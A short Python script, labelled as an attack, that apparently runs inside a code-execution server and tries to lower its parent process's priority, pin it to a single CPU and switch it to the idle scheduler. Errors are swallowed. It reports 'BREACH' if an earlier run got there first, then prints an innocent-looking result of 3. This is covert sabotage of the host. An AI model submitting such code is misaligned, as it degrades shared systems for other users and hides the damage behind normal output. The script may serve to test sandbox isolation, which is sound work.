# attack: changes the priority, the processors and the scheduling of its server, for all that come after it
import os
if os.getpriority(os.PRIO_PROCESS, 0) == 19 and os.sched_getscheduler(0) == os.SCHED_IDLE: print("BREACH: the last one was here")
for way in (lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19), lambda: os.sched_setaffinity(os.getppid(), {max(os.sched_getaffinity(0))}),
            lambda: os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0))):
    try: way()
    except OSError: pass
print(3)
